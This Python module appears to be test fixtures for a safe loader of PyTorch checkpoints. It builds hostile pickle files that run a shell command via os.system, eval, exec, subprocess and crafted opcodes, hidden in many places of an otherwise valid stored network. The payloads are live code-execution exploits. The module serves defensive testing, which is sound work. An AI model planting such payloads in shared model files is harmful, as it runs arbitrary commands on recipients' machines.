"""Hostile files: exploits of pickle in every place of a stored network, by every opcode that can act.

Each case makes the bytes of a file, given the command that would leave the marker. Those in ``EXPLOITS`` are live:
the standard library's ``pickle`` runs the command.
"""

from __future__ import annotations

import copyreg
import io
import os
import pickle
import struct
import subprocess
from collections import OrderedDict
from collections.abc import Callable

import torch
from foreign_cases import Stored, stored

Case = Callable[[str], bytes]
PROTOCOL = b"\x80\x04"
SYSTEM = f"{os.system.__module__}.system"  # what the file calls os.system
EXTENSION = 0xE7  # a private code of copyreg's registry


class Call:
    """Pickled as a call of ``function(*arguments)``, perhaps followed by a state."""

    def __init__(self, function: Callable, *arguments: object, state: object = None):
        self.reduced = (function, arguments) if state is None else (function, arguments, state)

    def __reduce__(self):
        return self.reduced


def text(value: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, qualified: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(qualified) + b"\x93"


def call(module: str, qualified: str, *arguments: bytes) -> bytes:
    """REDUCE."""
    return name(module, qualified) + b"(" + b"".join(arguments) + b"tR"


def register_extension() -> None:
    if (os.__name__, "system") not in copyreg._extension_registry:
        copyreg.add_extension(os.__name__, "system", EXTENSION)


def calling(module: str, qualified: str, *arguments: bytes) -> bytes:
    """A pickle that is this call."""
    return PROTOCOL + call(module, qualified, *arguments) + b"."


SYSTEM_NAME = name("os", "system")


def build_with_setstate(command: str) -> bytes:
    """BUILD on a class whose ``__setstate__`` was set, by BUILD, to ``os.system``."""
    bases, members = b"(" + name("builtins", "object") + b"t", b"}" + text("__setstate__") + SYSTEM_NAME + b"s"
    return PROTOCOL + call("builtins", "type", text("K"), bases, members) + b")\x81" + text(command) + b"b."


def imported_attribute(command: str) -> bytes:
    module = call("builtins", "__import__", text("os"))
    return PROTOCOL + call("builtins", "getattr", module, text("system")) + text(command) + b"\x85R."


EXPLOITS: dict[str, tuple[Case, str]] = {
    "reduce": (lambda c: pickle.dumps(Call(os.system, c)), SYSTEM),
    "reduce_protocol_0": (lambda c: pickle.dumps(Call(os.system, c), protocol=0), "neither a pickle"),
    "reduce_popen": (lambda c: pickle.dumps(Call(subprocess.run, c.split())), "subprocess.run"),
    "eval": (lambda c: pickle.dumps(Call(eval, f"__import__('os').system({c!r})")), "builtins.eval"),
    "exec": (lambda c: pickle.dumps(Call(exec, f"import os; os.system({c!r})")), "builtins.exec"),
    "getattr": (imported_attribute, "builtins.getattr"),
    "inst": (lambda c: PROTOCOL + b"(" + text(c) + b"ios\nsystem\n.", "INST"),
    "obj": (lambda c: PROTOCOL + b"(cos\nsystem\n" + text(c) + b"o.", "OBJ"),
    "extension": (lambda c: PROTOCOL + b"\x82" + bytes([EXTENSION]) + text(c) + b"\x85R.", "EXT1"),
    "dotted_name": (lambda c: calling("torch.serialization", "os.system", text(c)), "torch.serialization.os.system"),
    "setstate": (build_with_setstate, "builtins.type"),
    "partial": (lambda c: calling("functools", "partial", SYSTEM_NAME, text(c))[:-1] + b")R.", "functools.partial"),
    "map": (
        lambda c: calling("builtins", "list", call("builtins", "map", SYSTEM_NAME, text(c) + b"\x85")),
        "builtins.list",
    ),
    "pydoc": (lambda c: calling("pydoc", "pipepager", text(""), text(c)), "pydoc.pipepager"),
}


def legacy(storage: torch.UntypedStorage | torch.TypedStorage) -> bytes:
    stream = io.BytesIO()
    torch.save(storage, stream, _use_new_zipfile_serialization=False)
    return stream.getvalue()


def ones(count: int) -> torch.TypedStorage:
    return torch.ones(count)._typed_storage()


def tensor_of(content: bytes, *view: object) -> Call:
    """A tensor whose storage is the nested bytes ``content``."""
    storage = Call(torch.storage._load_from_bytes, content)
    return Call(torch._utils._rebuild_tensor_v2, storage, *(view or (0, (4,), (1,))), False, OrderedDict())


def holding(place: str, key: str, value: object, zipped: bool = False) -> bytes:
    """A stored network that has ``value`` at ``key`` of a place in it."""

    def change(content: dict, network: Stored) -> None:
        places = {
            "content": content,
            "encoder": content["encoder"].__dict__,
            "ema": content["ema"].__dict__,
            "network": network.__dict__,
            "arguments": network.__dict__["_init_kwargs"],
            "parameters": network.enc._parameters,
            "parts": network.enc.emb_noise._modules,
            "ema_parts": content["ema"]._modules,
            "ema_buffers": content["ema"]._buffers,
        }
        places[place][key] = value

    return stored(change=change, zipped=zipped)


def as_parameter(value: object) -> bytes:
    return holding("parameters", "emb_gain", value)


def exploit(command: str) -> Call:
    return Call(os.system, command)


class PastReferences(pickle.Unpickler):
    def persistent_load(self, pid: object) -> None:
        return None


def hostile_legacy(command: str, place: int) -> bytes:
    """The nested bytes of a storage, with an exploit for one of their five pickles."""
    stream = io.BytesIO(legacy(ones(4)))
    for _ in range(place):
        PastReferences(stream).load()
    return stream.getvalue()[: stream.tell()] + pickle.dumps(exploit(command))


def hostile_reference(command: str) -> bytes:
    """Nested bytes whose persistent id has an exploit for the storage's type."""
    content = legacy(ones(4))
    return content.replace(b"ctorch\nFloatStorage\n", b"cos\nsystem\n(" + text(command) + b"tR")


def of_name(module: str, qualified: str, opcodes: bytes) -> bytes:
    """A pickle that does something with a class or a function."""
    return PROTOCOL + name(module, qualified) + opcodes + b"."


STATE = b"}" + text("add") + text("x") + b"sb"  # BUILD

# Exploits in each place of an otherwise good file: case, and what the refusal names.
PLACES: dict[str, tuple[Case, str]] = {
    "beside_the_network": (lambda c: holding("content", "loss_fn", exploit(c)), SYSTEM),
    "in_the_encoder": (lambda c: holding("encoder", "note", exploit(c)), SYSTEM),
    "as_the_network": (lambda c: holding("content", "ema", exploit(c)), SYSTEM),
    "in_state": (lambda c: holding("network", "note", exploit(c)), SYSTEM),
    "in_constructor_arguments": (lambda c: holding("arguments", "dropout", exploit(c)), SYSTEM),
    "as_source_code": (lambda c: holding("network", "stored_as", ("Precond", exploit(c))), SYSTEM),
    "as_class_name": (lambda c: holding("network", "stored_as", (exploit(c), "")), SYSTEM),
    "as_parameter": (lambda c: as_parameter(exploit(c)), SYSTEM),
    "as_dictionary_key": (lambda c: holding("network", "note", {exploit(c): 1}), SYSTEM),
    "as_hooks": (
        lambda c: as_parameter(Call(torch._utils._rebuild_parameter, torch.ones(1), False, exploit(c))),
        SYSTEM,
    ),
    "in_a_zip": (lambda c: holding("network", "note", exploit(c), zipped=True), SYSTEM),
    **{
        f"in_nested_bytes_{place}": (lambda c, place=place: as_parameter(tensor_of(hostile_legacy(c, place))), SYSTEM)
        for place in range(5)
    },
    "in_nested_persistent_id": (lambda c: as_parameter(tensor_of(hostile_reference(c))), "os.system"),
    "as_torch_load": (lambda c: as_parameter(Call(torch.load, pickle.dumps(exploit(c)))), "torch.serialization.load"),
    "newobj_with_arguments": (lambda c: of_name("setuptools", "Command", text(c) + b"\x85\x81"), "with arguments"),
    "newobj_ex": (lambda c: of_name("setuptools", "Command", b")}\x92"), "NEWOBJ_EX"),
    "build_on_a_class": (lambda c: of_name("torch", "Tensor", STATE), "state of the name torch.Tensor"),
    "build_on_a_replaced_function": (lambda c: of_name("torch", "Size", STATE), "state of the name torch.Size"),
    "persistent_id": (lambda c: PROTOCOL + text(c) + b"Q.", "persistent id"),
    "textual_persistent_id": (lambda c: b"\x80\x02P" + c.encode() + b"\n.", "PERSID"),
    "out_of_band_buffer": (lambda c: b"\x80\x05\x97.", "NEXT_BUFFER"),
}
